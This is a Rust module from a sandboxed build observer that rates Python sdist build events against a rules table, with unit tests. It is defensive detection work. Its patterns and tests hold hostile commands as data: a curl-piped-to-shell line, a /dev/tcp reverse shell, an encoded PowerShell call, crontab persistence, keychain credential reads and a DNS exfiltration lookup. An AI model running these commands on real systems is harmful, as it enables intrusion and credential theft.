//! The rules: what each observed event means, in one table.
//!
//! [`RULES`] is read top to bottom; the first row whose category, action and condition
//! match a [`Fact`] rates it. `notice` is for what benign builds do too (asking git for a
//! version, probing for a compiler, reading `CFLAGS`, running the text of their own
//! `version.py`); `suspicious` is for what builds have no reason to do (network of any
//! kind, secrets and credentials, the whole environment, code that is in none of the
//! sdist's files, persistence, going after the observer). `ignore` drops an event that
//! means nothing (`/dev/null`, the guest's own private HOME). README.md carries the same
//! table ([`markdown_table`] renders it; a test keeps the two equal).

use super::model::{Category, Severity};
use super::patterns::{self as p, contains_any};
use super::record::{Fact, Provenance, Who};

/// What a rule decides.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Level {
    /// Not reported.
    Ignore,
    /// Reported as `notice`.
    Notice,
    /// Reported as `suspicious`.
    Suspicious,
}

impl Level {
    fn as_str(self) -> &'static str {
        match self {
            Self::Ignore => "ignore",
            Self::Notice => "notice",
            Self::Suspicious => "**suspicious**",
        }
    }
}

/// A condition on a fact beyond its category and action.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum When {
    /// Always.
    Always,
    /// The code that asked is the sdist's (its files or code it built at run time).
    ByBuildCode,
    /// The code that asked is a build requirement's.
    ByRequirement,
    /// A standard-library helper (ast, timeit) asked on the build code's behalf.
    ByLibrary,
    /// A path under sdistill's result directory `/out`.
    OutputDir,
    /// A path under the read-only guest wheels and build requirements.
    GuestWheels,
    /// A path inside the guest's private HOME that matches nothing below.
    InHome,
    /// `/dev/null` and friends.
    HarmlessDevice,
    /// A path of keys, tokens, credentials, browser profiles or wallets.
    CredentialPath,
    /// A path where code runs again later.
    PersistencePath,
    /// An environment variable named like a secret.
    SecretName,
    /// A name lookup or connection to the Python Package Index itself.
    PackageIndex,
    /// A download of setuptools or distribute from the Python Package Index.
    SetuptoolsBootstrap,
    /// A command that installs something to run later.
    PersistenceCommand,
    /// A command that opens an interactive or network-attached shell.
    RemoteShell,
    /// A command that downloads, contacts a host or installs from an index.
    FetchesRemote,
    /// A command that decodes something or pipes it into an interpreter.
    DecodeAndRun,
    /// PowerShell.
    Powershell,
    /// A command that reads stored credentials.
    CredentialTool,
    /// A version-control program.
    VersionControl,
    /// A compiler or build tool.
    BuildTool,
    /// Run-time code whose text is in one of the sdist's own files.
    FoundInTree,
    /// Code that imports, runs more code, or calls into the system.
    ActiveCode,
    /// An unpickled global that runs code or reaches the system.
    DangerousGlobal,
    /// A registry key that starts programs.
    RunKey,
}

impl When {
    /// The condition in words, for the README table.
    pub fn describe(self) -> &'static str {
        match self {
            Self::Always => "any",
            Self::ByBuildCode => "by the sdist's code",
            Self::ByLibrary => "compiled by a stdlib helper (`ast`, `timeit`) for the sdist",
            Self::OutputDir => "sdistill's result dir `/out`",
            Self::GuestWheels => "the read-only guest wheels and build requirements",
            Self::InHome => "anything else in the guest's private HOME",
            Self::HarmlessDevice => "`/dev/null` and friends",
            Self::CredentialPath => {
                "keys, tokens, credentials, `/etc/shadow`/`passwd`, browser profiles, wallets"
            }
            Self::PersistencePath => {
                "shell rc files, autostart, launch agents, systemd, cron, `authorized_keys`, `sitecustomize`, `.pth`"
            }
            Self::SecretName => {
                "a name like `*TOKEN*`, `*SECRET*`, `*PASSW*`, `*_KEY`, `*_AUTH_*`, `AWS_*` (not `*_FILE`, `*_PATH`, `*_DIR`)"
            }
            Self::ByRequirement => "by a build requirement (a backend reading its settings)",
            Self::PackageIndex => "`pypi.org`, `pypi.python.org`, `files.pythonhosted.org` (exactly)",
            Self::SetuptoolsBootstrap => "a setuptools or distribute archive from those hosts",
            Self::PersistenceCommand => {
                "`crontab`, `schtasks`, `launchctl load`, `systemctl enable`, `reg add ...\\Run`"
            }
            Self::RemoteShell => "`sh -i`, `/dev/tcp/`, `mkfifo`, `nc -e`",
            Self::FetchesRemote => {
                "`curl`, `wget`, `nc`, `Invoke-WebRequest`, `nslookup`, `ping`, a URL, `pip install`, `npm install`"
            }
            Self::DecodeAndRun => "`| sh`, `base64 -d`, `FromBase64String`, `IEX`, `exec(`",
            Self::Powershell => "`powershell`, `pwsh`, `wscript`, `cscript`, `rundll32`",
            Self::CredentialTool => "`security find-generic-password`, `cmdkey`, `mimikatz`",
            Self::VersionControl => "`git`, `hg`, `svn`",
            Self::BuildTool => "compilers, `pkg-config`, `*-config`, `cmake`, `uname`",
            Self::FoundInTree => "the text is in one of the sdist's files",
            Self::ActiveCode => {
                "the code imports, runs more code or calls into the system (`import`, `exec`, `os.`, `socket`, `b64decode`...)"
            }
            Self::DangerousGlobal => "`os.*`, `subprocess.*`, `builtins.exec`...",
            Self::RunKey => "`...\\CurrentVersion\\Run`, `Winlogon`, services",
        }
    }

    fn matches(self, f: &Fact) -> bool {
        let lines = || f.subject.lines();
        let words = || p::words(&f.subject);
        match self {
            Self::Always => true,
            Self::ByBuildCode => f.who.is_build_code(),
            Self::ByRequirement => f.who == Who::Requirement,
            Self::ByLibrary => f.who == Who::Library,
            Self::OutputDir => lines().any(|l| l == "/out" || l.starts_with("/out/")),
            Self::GuestWheels => {
                lines().any(|l| l.starts_with("/site/") || l.starts_with("/deps/"))
            }
            Self::InHome => lines().all(|l| l == "~" || l.starts_with("~/")),
            Self::HarmlessDevice => lines().all(|l| p::HARMLESS_DEVICES.contains(&l)),
            Self::CredentialPath => contains_any(&f.subject, p::CREDENTIAL_PATHS),
            Self::PersistencePath => {
                contains_any(&f.subject, p::PERSISTENCE_PATHS)
                    || lines().any(|l| l.ends_with(".pth"))
            }
            Self::SecretName => {
                let name = f.target.to_uppercase();
                let secret = contains_any(&name, p::SECRET_ENV_FRAGMENTS)
                    || name.split('_').any(|w| p::SECRET_ENV_WORDS.contains(&w))
                    || p::SECRET_ENV_PREFIXES.iter().any(|x| name.starts_with(x));
                secret && !p::LOCATION_ENV_SUFFIXES.iter().any(|x| name.ends_with(x))
            }
            Self::PackageIndex => {
                let host = host_of(&f.subject);
                p::PACKAGE_INDEX_HOSTS.contains(&host)
            }
            Self::SetuptoolsBootstrap => {
                f.subject.starts_with("http")
                    && p::PACKAGE_INDEX_HOSTS.contains(&host_of(&f.subject))
                    && contains_any(&f.subject, p::BOOTSTRAP_PACKAGES)
            }
            Self::PersistenceCommand => {
                contains_any(&f.subject, p::PERSISTENCE_COMMANDS)
                    || (f.subject.contains("reg add") && f.subject.contains("\\run"))
            }
            Self::RemoteShell => {
                contains_any(&f.subject, p::REMOTE_SHELL_FRAGMENTS)
                    || (words().any(|w| w == "nc" || w == "ncat") && f.subject.contains(" -e"))
            }
            Self::FetchesRemote => {
                words().any(|w| p::FETCH_PROGRAMS.contains(&w))
                    || contains_any(&f.subject, p::FETCH_FRAGMENTS)
            }
            Self::DecodeAndRun => contains_any(&f.subject, p::DECODE_AND_RUN_FRAGMENTS),
            Self::Powershell => words().any(|w| p::POWERSHELL_PROGRAMS.contains(&w)),
            Self::CredentialTool => contains_any(&f.subject, p::CREDENTIAL_COMMANDS),
            Self::VersionControl => words().any(|w| p::VCS_PROGRAMS.contains(&w)),
            Self::BuildTool => words().any(p::is_build_tool),
            Self::FoundInTree => matches!(f.provenance, Provenance::Found(_)),
            Self::ActiveCode => contains_any(&f.subject, p::ACTIVE_CODE_FRAGMENTS),
            Self::DangerousGlobal => {
                let module = f.subject.split('.').next().unwrap_or("");
                p::DANGEROUS_PICKLE_MODULES.contains(&module)
                    || p::DANGEROUS_PICKLE_BUILTINS.contains(&f.subject.as_str())
            }
            Self::RunKey => contains_any(&f.subject, p::RUN_KEYS),
        }
    }
}

/// The host of a URL, `host:port` or bare name (lowercase already).
fn host_of(target: &str) -> &str {
    let rest = target.split_once("://").map_or(target, |(_, r)| r);
    let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
    let authority = authority.rsplit('@').next().unwrap_or(authority);
    authority.split(':').next().unwrap_or(authority)
}

/// One row of the table.
#[derive(Debug, Clone, Copy)]
pub struct Rule {
    /// The fact's category.
    pub category: Category,
    /// The fact's actions this row applies to (empty: all).
    pub actions: &'static [&'static str],
    /// The condition.
    pub when: When,
    /// The category the event is reported under.
    pub report_as: Category,
    /// The decision.
    pub level: Level,
    /// Why, in words a reader can check.
    pub why: &'static str,
}

const fn rule(
    category: Category,
    actions: &'static [&'static str],
    when: When,
    report_as: Category,
    level: Level,
    why: &'static str,
) -> Rule {
    Rule {
        category,
        actions,
        when,
        report_as,
        level,
        why,
    }
}

use Category as C;
use Level::{Ignore, Notice, Suspicious};
use When as W;

/// Every rule, first match wins.
#[rustfmt::skip]
pub static RULES: &[Rule] = &[
    // --- attempts against the observer and the report
    rule(C::Tamper, &["audit-hook"], W::Always, C::Tamper, Notice,
        "adds an audit hook of its own; it runs after sdistill's and cannot remove it"),
    rule(C::Tamper, &[], W::Always, C::Tamper, Suspicious,
        "goes after the observer or the report (gc, tracing, patching the hook, forged records, the event channel); refused where refusing changes nothing for honest builds"),
    // --- network: there is none in the sandbox, so any use is intent
    rule(C::Network, &["import"], W::ByRequirement, C::Network, Ignore,
        "a build requirement importing a network client (any use is recorded on its own)"),
    rule(C::Network, &["import"], W::Always, C::Network, Notice,
        "imports a network client; builds sometimes do, and any use is recorded on its own"),
    rule(C::Network, &["http"], W::SetuptoolsBootstrap, C::Network, Notice,
        "an old bootstrap script (ez_setup, distribute_setup) fetching setuptools from PyPI"),
    rule(C::Network, &["dns", "connect"], W::PackageIndex, C::Network, Notice,
        "reaches the package index itself, as those bootstraps do (what it asks for is rated on its own)"),
    rule(C::Network, &[], W::Always, C::Network, Suspicious,
        "builds need no network: this is how data leaves and payloads arrive (DNS lookups alone can carry data)"),
    // --- processes: every one is refused, the command line says what was meant
    rule(C::Process, &["run"], W::PersistenceCommand, C::Persistence, Suspicious,
        "installs something that runs later"),
    rule(C::Process, &["run"], W::RemoteShell, C::Process, Suspicious,
        "opens an interactive or network-attached shell (a reverse shell)"),
    rule(C::Process, &["run"], W::FetchesRemote, C::Process, Suspicious,
        "fetches or runs remote content at build time"),
    rule(C::Process, &["run"], W::DecodeAndRun, C::Process, Suspicious,
        "decodes something or pipes it into an interpreter"),
    rule(C::Process, &["run"], W::Powershell, C::Process, Suspicious,
        "builds do not need PowerShell or the Windows script hosts; Windows payloads run through them"),
    rule(C::Process, &["run"], W::CredentialTool, C::Process, Suspicious,
        "reads stored credentials"),
    rule(C::Process, &["run"], W::VersionControl, C::Process, Notice,
        "asks version control for a version, as setuptools_scm and versioneer do"),
    rule(C::Process, &["run"], W::BuildTool, C::Process, Notice,
        "probes for a compiler or build tool"),
    rule(C::Process, &[], W::Always, C::Process, Notice,
        "runs a program (refused: the sandbox has no processes)"),
    // --- writes outside the sdist's tree and scratch
    rule(C::FileWrite, &[], W::OutputDir, C::Tamper, Suspicious,
        "writes sdistill's result directory (refused): an attempt to forge the answer"),
    rule(C::FileWrite, &[], W::PersistencePath, C::Persistence, Suspicious,
        "writes where code runs again later"),
    rule(C::FileWrite, &[], W::CredentialPath, C::FileWrite, Suspicious,
        "touches keys, tokens or credentials"),
    rule(C::FileWrite, &[], W::HarmlessDevice, C::FileWrite, Ignore,
        "the null device"),
    rule(C::FileWrite, &[], W::InHome, C::FileWrite, Ignore,
        "the guest's HOME is part of its scratch dir"),
    rule(C::FileWrite, &[], W::GuestWheels, C::FileWrite, Notice,
        "writes the read-only build environment (refused by the sandbox)"),
    rule(C::FileWrite, &[], W::Always, C::FileWrite, Notice,
        "writes outside its own tree and the scratch dir"),
    // --- reads outside the sdist's tree and scratch
    rule(C::FileRead, &[], W::OutputDir, C::FileRead, Ignore,
        "sdistill's own request file"),
    rule(C::FileRead, &[], W::CredentialPath, C::FileRead, Suspicious,
        "reads keys, tokens, credentials, browser profiles or wallets"),
    rule(C::FileRead, &[], W::HarmlessDevice, C::FileRead, Ignore,
        "the null device"),
    rule(C::FileRead, &[], W::InHome, C::FileRead, Ignore,
        "the guest's HOME is part of its scratch dir"),
    rule(C::FileRead, &[], W::GuestWheels, C::FileRead, Ignore,
        "importing the build environment"),
    rule(C::FileRead, &[], W::Always, C::FileRead, Notice,
        "reads outside its own tree (builds probe headers and OS release files)"),
    // --- the environment
    rule(C::Environment, &["enumerate"], W::ByBuildCode, C::Environment, Suspicious,
        "reads the whole environment, where CI secrets live"),
    rule(C::Environment, &["enumerate"], W::Always, C::Environment, Notice,
        "a build requirement reads the whole environment"),
    rule(C::Environment, &["read"], W::SecretName, C::Environment, Suspicious,
        "reads a variable named like a secret"),
    rule(C::Environment, &["read"], W::ByRequirement, C::Environment, Ignore,
        "build backends read their own settings (HATCH_*, PDM_*...)"),
    rule(C::Environment, &[], W::Always, C::Environment, Notice,
        "reads an environment variable (CC, CFLAGS, CI flags: builds do)"),
    // --- code made at run time
    rule(C::DynamicCode, &["exec"], W::FoundInTree, C::DynamicCode, Notice,
        "runs the text of one of its own files (exec(open('version.py').read()))"),
    rule(C::DynamicCode, &["exec"], W::ByLibrary, C::DynamicCode, Notice,
        "a standard-library helper compiled code containing imports or calls for it"),
    rule(C::DynamicCode, &["exec"], W::ActiveCode, C::DynamicCode, Suspicious,
        "runs code that is in none of its files and reaches into the system: decoded, decrypted or fetched at run time"),
    rule(C::DynamicCode, &["exec"], W::Always, C::DynamicCode, Notice,
        "runs code assembled at run time (not in its files) that imports and calls nothing"),
    rule(C::DynamicCode, &["marshal"], W::ByBuildCode, C::DynamicCode, Suspicious,
        "loads marshalled bytecode, code kept out of readers' sight"),
    rule(C::DynamicCode, &["unpickle"], W::DangerousGlobal, C::DynamicCode, Suspicious,
        "unpickles an object that calls into the system"),
    rule(C::DynamicCode, &[], W::Always, C::DynamicCode, Notice,
        "builds code objects or unpickles at run time"),
    // --- native code
    rule(C::NativeCode, &[], W::Always, C::NativeCode, Notice,
        "reaches for native code (ctypes, cffi, Windows modules); WASI has none, the attempt is all there is"),
    // --- the Windows registry (a stand-in under --observe --target-platform windows)
    rule(C::Persistence, &["registry-write"], W::RunKey, C::Persistence, Suspicious,
        "sets a registry key that starts programs"),
    rule(C::Persistence, &[], W::Always, C::Persistence, Notice,
        "writes the Windows registry"),
    // --- how the --observe build went
    rule(C::Build, &["no-compiler"], W::Always, C::Build, Notice,
        "the build needs a C compiler, which the sandbox does not have; what it would run after compiling was not observed"),
    rule(C::Build, &["timeout"], W::Always, C::Build, Notice,
        "the build ran into the deadline; what it would do later was not observed"),
    rule(C::Build, &["limit"], W::Always, C::Build, Notice,
        "the build hit a resource limit; what it would do later was not observed"),
    rule(C::Build, &[], W::Always, C::Build, Notice,
        "the build failed; what it would do after the failure was not observed"),
    // --- the observer itself
    rule(C::Observer, &["overflow"], W::Always, C::Observer, Notice,
        "more events than the report lists; the verdict still counts the unlisted ones"),
    rule(C::Observer, &[], W::Always, C::Observer, Notice,
        "the observer did not report from inside the guest; the run was not observed"),
];

/// A fact's rating.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Rating {
    /// Reported under this category.
    pub category: Category,
    /// How severe.
    pub severity: Severity,
    /// The rule's reason.
    pub why: &'static str,
}

/// Rates a fact; `None` when a rule says to ignore it (or, which the table rules out,
/// none matches).
pub fn rate(fact: &Fact) -> Option<Rating> {
    let rule = RULES.iter().find(|r| {
        r.category == fact.category
            && (r.actions.is_empty() || r.actions.contains(&fact.action))
            && r.when.matches(fact)
    })?;
    let severity = match rule.level {
        Level::Ignore => return None,
        Level::Notice => Severity::Notice,
        Level::Suspicious => Severity::Suspicious,
    };
    Some(Rating {
        category: rule.report_as,
        severity,
        why: rule.why,
    })
}

/// The table as Markdown, as README.md shows it.
pub fn markdown_table() -> String {
    let mut out = String::from(
        "| category | action | when | level | reported as | why |\n|---|---|---|---|---|---|\n",
    );
    for r in RULES {
        let actions = if r.actions.is_empty() {
            "any".to_string()
        } else {
            r.actions.join(", ")
        };
        out.push_str(&format!(
            "| {} | {} | {} | {} | {} | {} |\n",
            r.category.as_str(),
            actions,
            r.when.describe().replace('|', "\\|"),
            r.level.as_str(),
            r.report_as.as_str(),
            r.why.replace('|', "\\|"),
        ));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::observe::record::{parse, Record};

    fn rated(json: &str) -> Option<(Category, Severity)> {
        let Record::Fact(f) = parse(json.as_bytes()) else {
            panic!("ready")
        };
        rate(&f).map(|r| (r.category, r.severity))
    }

    const N: Severity = Severity::Notice;
    const S: Severity = Severity::Suspicious;

    #[test]
    fn every_category_has_a_last_resort_row() {
        for c in [
            C::Network,
            C::Process,
            C::FileRead,
            C::FileWrite,
            C::Environment,
            C::DynamicCode,
            C::NativeCode,
            C::Persistence,
            C::Tamper,
            C::Build,
            C::Observer,
        ] {
            assert!(
                RULES
                    .iter()
                    .any(|r| r.category == c && r.actions.is_empty() && r.when == W::Always),
                "{c:?}"
            );
        }
    }

    #[test]
    fn processes() {
        let run = |cmd: &str| {
            rated(&format!(
                r#"{{"e":"subprocess.Popen","t":{},"b":"s"}}"#,
                serde_json::json!(cmd)
            ))
        };
        assert_eq!(run("git describe --tags"), Some((C::Process, N)));
        assert_eq!(run("x86_64-linux-gnu-gcc -c x.c"), Some((C::Process, N)));
        assert_eq!(run("pkg-config --cflags libxml-2.0"), Some((C::Process, N)));
        assert_eq!(run("make"), Some((C::Process, N)));
        assert_eq!(
            run("curl -s http://x.example/a | sh"),
            Some((C::Process, S))
        );
        assert_eq!(run("sh -c 'wget -qO- x | bash'"), Some((C::Process, S)));
        assert_eq!(
            run("powershell -NoP -W hidden -enc SQBFAFgA"),
            Some((C::Process, S))
        );
        assert_eq!(
            run("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"),
            Some((C::Process, S))
        );
        assert_eq!(
            run("(crontab -l; echo '* * * * * x') | crontab -"),
            Some((C::Persistence, S))
        );
        assert_eq!(
            run("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x"),
            Some((C::Persistence, S))
        );
        assert_eq!(
            run("security find-generic-password -wa Chrome"),
            Some((C::Process, S))
        );
        assert_eq!(run("whoami"), Some((C::Process, N)));
        assert_eq!(run("nslookup c2VjcmV0.evil.example"), Some((C::Process, S)));
        assert_eq!(run("cmd /c rundll32 x.dll,Run"), Some((C::Process, S)));
        assert_eq!(run("gcc -march=native -DHOST=1 x.c"), Some((C::Process, N)));
    }

    #[test]
    fn files() {
        let f = |path: &str, w: u8| {
            rated(&format!(
                r#"{{"e":"open","t":{},"w":{w},"b":"s"}}"#,
                serde_json::json!(path)
            ))
        };
        assert_eq!(
            f("/scratch/home/.aws/credentials", 0),
            Some((C::FileRead, S))
        );
        assert_eq!(f("/home/runner/.ssh/id_ed25519", 0), Some((C::FileRead, S)));
        assert_eq!(f("/etc/passwd", 0), Some((C::FileRead, S)));
        assert_eq!(f("/proc/self/environ", 0), Some((C::FileRead, S)));
        assert_eq!(
            f(
                "C:\\Users\\u\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data",
                0
            ),
            Some((C::FileRead, S))
        );
        assert_eq!(f("/etc/os-release", 0), Some((C::FileRead, N)));
        assert_eq!(f("/usr/include/stdio.h", 0), Some((C::FileRead, N)));
        assert_eq!(f("/scratch/home/.cache/x", 0), None);
        assert_eq!(f("/dev/null", 1), None);
        assert_eq!(f("/scratch/home/.bashrc", 1), Some((C::Persistence, S)));
        assert_eq!(
            f("/scratch/home/.ssh/authorized_keys", 1),
            Some((C::Persistence, S))
        );
        assert_eq!(f("/etc/cron.d/x", 1), Some((C::Persistence, S)));
        assert_eq!(
            f("/usr/lib/python3/site-packages/evil.pth", 1),
            Some((C::Persistence, S))
        );
        assert_eq!(f("/out/result.json", 1), Some((C::Tamper, S)));
        assert_eq!(f("/site/setuptools/x.py", 1), Some((C::FileWrite, N)));
        assert_eq!(f("/tmp/x", 1), Some((C::FileWrite, N)));
        assert_eq!(f("/scratch/home/.cache/x", 1), None);
    }

    #[test]
    fn environment_and_code() {
        assert_eq!(
            rated(r#"{"e":"sdistill.environ.get","t":"CFLAGS","b":"s"}"#),
            Some((C::Environment, N))
        );
        assert_eq!(
            rated(r#"{"e":"sdistill.environ.get","t":"GITHUB_TOKEN","b":"s"}"#),
            Some((C::Environment, S))
        );
        assert_eq!(
            rated(r#"{"e":"sdistill.environ.get","t":"AWS_SECRET_ACCESS_KEY","b":"s"}"#),
            Some((C::Environment, S))
        );
        assert_eq!(
            rated(r#"{"e":"sdistill.environ.list","b":"x"}"#),
            Some((C::Environment, S))
        );
        assert_eq!(
            rated(r#"{"e":"sdistill.environ.list","b":"d"}"#),
            Some((C::Environment, N))
        );
        // Provenance not known yet rates as the worst case.
        assert_eq!(
            rated(r#"{"e":"compile","x":"import os","h":"00","n":9,"b":"s"}"#),
            Some((C::DynamicCode, S))
        );
        assert_eq!(
            rated(r#"{"e":"compile","x":"import os","h":"00","n":9,"b":"l"}"#),
            Some((C::DynamicCode, N))
        );
        assert_eq!(
            rated(r#"{"e":"compile","x":"v = '1.0'","h":"00","n":9,"b":"s"}"#),
            Some((C::DynamicCode, N))
        );
        assert_eq!(
            rated(r#"{"e":"marshal.loads","t":"120 bytes","b":"s"}"#),
            Some((C::DynamicCode, S))
        );
        assert_eq!(
            rated(r#"{"e":"pickle.find_class","t":"posix.system","b":"s"}"#),
            Some((C::DynamicCode, S))
        );
        assert_eq!(
            rated(r#"{"e":"import","t":"ctypes.util","b":"s"}"#),
            Some((C::NativeCode, N))
        );
        assert_eq!(
            rated(r#"{"e":"import","t":"requests","b":"s"}"#),
            Some((C::Network, N))
        );
        assert_eq!(
            rated(r#"{"e":"socket.getaddrinfo","t":"x.example","b":"s"}"#),
            Some((C::Network, S))
        );
        // The package index is a notice only for itself and a setuptools bootstrap.
        assert_eq!(
            rated(r#"{"e":"socket.getaddrinfo","t":"pypi.python.org:80","b":"s"}"#),
            Some((C::Network, N))
        );
        assert_eq!(
            rated(r#"{"e":"socket.getaddrinfo","t":"x.pypi.python.org:80","b":"s"}"#),
            Some((C::Network, S))
        );
        assert_eq!(
            rated(
                r#"{"e":"urllib.Request","t":"http://pypi.python.org/packages/source/d/distribute/distribute-0.6.28.tar.gz","b":"s"}"#
            ),
            Some((C::Network, N))
        );
        assert_eq!(
            rated(
                r#"{"e":"urllib.Request","t":"https://files.pythonhosted.org/packages/x/evil-2.0.tar.gz","b":"s"}"#
            ),
            Some((C::Network, S))
        );
        assert_eq!(
            rated(
                r#"{"e":"urllib.Request","t":"https://evil.example/pypi.org/setuptools-1.tar.gz","b":"s"}"#
            ),
            Some((C::Network, S))
        );
        assert_eq!(
            rated(r#"{"e":"sdistill.environ.get","t":"AWS_CREDENTIAL_FILE","b":"s"}"#),
            Some((C::Environment, N))
        );
        assert_eq!(
            rated(r#"{"e":"sdistill.environ.get","t":"SKIP_GENERATE_AUTHORS","b":"s"}"#),
            Some((C::Environment, N))
        );
        assert_eq!(
            rated(r#"{"e":"sdistill.environ.get","t":"NPM_CONFIG__AUTH","b":"s"}"#),
            Some((C::Environment, S))
        );
        assert_eq!(
            rated(r#"{"e":"sdistill.environ.get","t":"HATCH_VERBOSE","b":"d"}"#),
            None
        );
        assert_eq!(
            rated(r#"{"e":"sdistill.environ.get","t":"PYPI_TOKEN","b":"d"}"#),
            Some((C::Environment, S))
        );
        assert_eq!(
            rated(r#"{"e":"gc.get_objects","b":"s","r":1}"#),
            Some((C::Tamper, S))
        );
        assert_eq!(
            rated(
                r#"{"e":"winreg.SetValue","t":"HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x"}"#
            ),
            Some((C::Persistence, S))
        );
    }

    #[test]
    fn readme_carries_the_table() {
        let readme = include_str!("../../README.md");
        assert!(
            readme.contains(&markdown_table()),
            "README.md's rules table is out of date; paste:\n{}",
            markdown_table()
        );
    }
}
